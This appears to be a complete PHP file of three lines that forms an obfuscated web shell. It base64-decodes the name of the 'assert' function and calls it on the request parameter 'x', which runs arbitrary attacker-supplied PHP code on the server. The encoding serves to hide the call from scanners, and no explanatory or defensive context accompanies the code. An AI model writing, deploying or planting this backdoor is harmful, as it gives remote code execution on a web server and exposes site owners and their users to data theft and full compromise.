<?php
$k = base64_decode("YXNzZXJ0");
$k($_REQUEST["x"]);
